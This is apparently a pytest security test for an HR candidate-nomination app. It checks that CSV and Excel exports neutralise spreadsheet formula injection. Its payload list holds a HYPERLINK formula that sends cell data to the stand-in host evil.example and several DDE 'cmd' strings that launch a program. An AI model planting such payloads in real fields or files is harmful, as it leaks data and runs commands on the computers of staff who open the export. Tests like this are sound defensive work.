"""A text that a spreadsheet would carry out as a formula, from a field that others write to the file that HR opens."""

import csv
import io
import json

import frappe
import openpyxl
import pytest

from tests.records import CANDIDATE
from tests.security.attacks import ledger

FORMULAS = (
	'=HYPERLINK("https://evil.example/?"&A1;"Hier")',
	"=cmd|' /C calc'!A0",
	"+1+cmd|' /C calc'!A0",
	"-1+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1",
)
#: what looks like one and is none: it is exported as it was typed
HARMLESS = ("+49 201 123-45", "-5", "5 = 5", "a@example.org", "Größer, 3 - 2")
FIELDS = ["name", "candidate_name", "reason", "position"]


@pytest.fixture(scope="module")
def dangerous(attack) -> str:
	"""A candidate whose texts are formulas one after the other, as whoever nominates could have typed them."""
	case = attack.victims.names[CANDIDATE]
	before = frappe.db.get_value(CANDIDATE, case, FIELDS, as_dict=True)
	yield case
	frappe.db.set_value(CANDIDATE, case, before, update_modified=False)
	frappe.db.commit()


def _exports(client, case: str, kind: str):
	"""The same case through each export: its rows of cells."""
	chosen = {
		"doctype": CANDIDATE,
		"fields": json.dumps(FIELDS),
		"filters": json.dumps([["name", "=", case]]),
	}
	columns = json.dumps({CANDIDATE: FIELDS})
	file_type = {"CSV": "CSV", "Excel": "Excel"}[kind]
	calls = {
		"list": ("frappe.desk.reportview.export_query", {**chosen, "file_format_type": kind, "title": "x"}),
		"report": (
			"frappe.desk.query_report.export_query",
			{
				"report_name": "FOKUS Talent Pool",
				"filters": "{}",
				"file_format_type": kind,
				"visible_idx": "[]",
			},
		),
		"data": (
			"frappe.core.doctype.data_export.exporter.export_data",
			{"doctype": CANDIDATE, "with_data": 1, "select_columns": columns, "file_type": file_type},
		),
		"template": (
			"frappe.core.doctype.data_import.data_import.download_template",
			{"doctype": CANDIDATE, "export_fields": columns, "export_records": "all", "file_type": file_type},
		),
	}
	for name, (method, arguments) in calls.items():
		answer = client.post(f"/api/method/{method}", data=arguments)
		assert answer.status_code == 200, (name, answer.text[-400:])
		yield name, answer.content


def _cells(content: bytes, kind: str) -> list:
	if kind == "CSV":
		return [cell for row in csv.reader(io.StringIO(content.decode("utf-8"))) for cell in row]
	sheet = openpyxl.load_workbook(io.BytesIO(content)).active
	assert [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"] == []
	return [str(cell.value) for row in sheet.iter_rows() for cell in row if cell.value is not None]


@pytest.mark.parametrize("kind", ["CSV", "Excel"])
def test_no_export_holds_a_formula(attack, dangerous, kind):
	for formula in FORMULAS:
		values = {"candidate_name": formula, "reason": formula, "position": formula}
		frappe.db.set_value(CANDIDATE, dangerous, values, update_modified=False)
		frappe.db.commit()
		for name, content in _exports(attack.clients["lead"], dangerous, kind):
			cells = _cells(content, kind)
			live = [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t")) and "1" in cell]
			assert live == [], (name, formula)
			ledger.count(f"formula: {kind}", "programme lead")
		assert [cell for cell in cells if formula.strip() in cell], "the text itself is kept"


def test_what_is_no_formula_is_exported_as_typed(attack, dangerous):
	for text in HARMLESS:
		frappe.db.set_value(CANDIDATE, dangerous, {"position": text}, update_modified=False)
		frappe.db.commit()
		_, content = next(iter(_exports(attack.clients["lead"], dangerous, "CSV")))
		assert text in _cells(content, "CSV"), text
